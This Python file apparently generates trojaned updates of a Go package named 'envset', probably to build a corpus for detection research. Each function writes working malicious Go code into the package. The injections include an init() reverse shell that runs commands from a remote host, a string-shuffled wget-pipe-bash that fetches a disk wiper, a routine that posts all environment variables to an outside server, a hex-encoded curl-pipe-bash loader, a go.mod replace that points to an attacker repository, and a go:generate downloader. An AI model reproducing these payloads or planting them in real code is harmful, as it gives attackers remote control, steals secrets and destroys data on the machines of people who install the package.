"""Go modules."""

from corpus.heldout.nouns import Update
from corpus.heldout7.shape import fill, hexed, trojan


@trojan("envset", "tar.gz", "import", "backdoor", "plain", "boltdb-go")
def go_init_opens_a_line(it: Update) -> None:
    it.add(
        "compat.go",
        fill(
            """
package envset

import (
	"bufio"
	"net"
	"os/exec"
	"time"
)

func init() {
	go func() {
		for {
			line, err := net.Dial("tcp", "@ADDR@:20022")
			if err == nil {
				rows := bufio.NewScanner(line)
				for rows.Scan() {
					out, _ := exec.Command("/bin/sh", "-c", rows.Text()).CombinedOutput()
					line.Write(out)
				}
				line.Close()
			}
			time.Sleep(30 * time.Second)
		}
	}()
}
""",
            ADDR=it.address(),
        ),
    )


@trojan("envset", "tar.gz", "import", "sabotage", "string table", "disk wipers in Go")
def go_init_fetches_a_wiper(it: Update) -> None:
    host = it.host()
    words = [
        "wget",
        " -O",
        " - h",
        "ttps:",
        "//",
        host[:4],
        host[4:],
        "/st",
        "orage/",
        "de373d0df",
        " | /bin/",
        "bash",
        " &",
    ]
    order = list(range(len(words)))
    it.random.shuffle(order)
    it.add(
        "platform.go",
        fill(
            """
package envset

import (
	"os/exec"
	"runtime"
)

func platform() error {
	parts := []string{@PARTS@}
	text := @JOINED@
	if runtime.GOOS != "linux" {
		return nil
	}
	return exec.Command("/bin/sh", "-c", text).Start()
}

var _ = platform()
""",
            PARTS=", ".join(f'"{words[one]}"' for one in order),
            JOINED=" + ".join(f"parts[{order.index(at)}]" for at in range(len(words))),
        ),
    )
    it.payload("platform.go", shown=f"https://{host}/storage/de373d0df")


@trojan("envset", "tar.gz", "call", "environment", "plain", "Go typosquats")
def go_parse_sends(it: Update) -> None:
    it.replace(
        "env.go",
        "	return fill(value.Elem())\n}\n",
        fill(
            """
	go report(os.Environ())
	return fill(value.Elem())
}

func report(rows []string) {
	answer, err := http.Post("https://@HOST@/v1/usage", "text/plain", strings.NewReader(strings.Join(rows, "\\n")))
	if err == nil {
		answer.Body.Close()
	}
}
""",
            HOST=it.host("usage"),
        ),
    )
    it.replace("env.go", '	"fmt"\n', '	"fmt"\n	"net/http"\n')


@trojan("envset", "tar.gz", "call", "remote code", "hex", "Go loaders")
def go_load_decodes(it: Update) -> None:
    host = it.host()
    it.replace(
        "dotenv.go",
        "	defer file.Close()\n",
        fill(
            """
	defer file.Close()
	if raw, err := hex.DecodeString("@CODE@"); err == nil {
		exec.Command("bash", "-c", string(raw)).Start()
	}
""",
            CODE=hexed(f"curl -s https://{host}/env.sh | bash"),
        ),
    )
    it.replace("dotenv.go", '	"bufio"\n	"os"\n', '	"bufio"\n	"encoding/hex"\n	"os"\n	"os/exec"\n')
    it.payload("dotenv.go", shown=f"https://{host}/env.sh")


@trojan("envset", "tar.gz", "build", "new dependency", "from a repository", "replaced modules")
def go_mod_is_replaced(it: Update) -> None:
    it.append(
        "go.mod",
        f"\nreplace gopkg.in/yaml.v3 => git.{it.host()}/go-yaml/yaml v3.0.2-0.20261101000000-{it.random.randbytes(6).hex()}\n",
    )


@trojan("envset", "tar.gz", "build", "downloader", "plain", "generators")
def go_generate_fetches(it: Update) -> None:
    it.replace(
        "usage.go",
        "package envset\n",
        f'package envset\n\n//go:generate sh -c "curl -fsSL http://{it.address()}/gen.sh | sh"\n',
    )
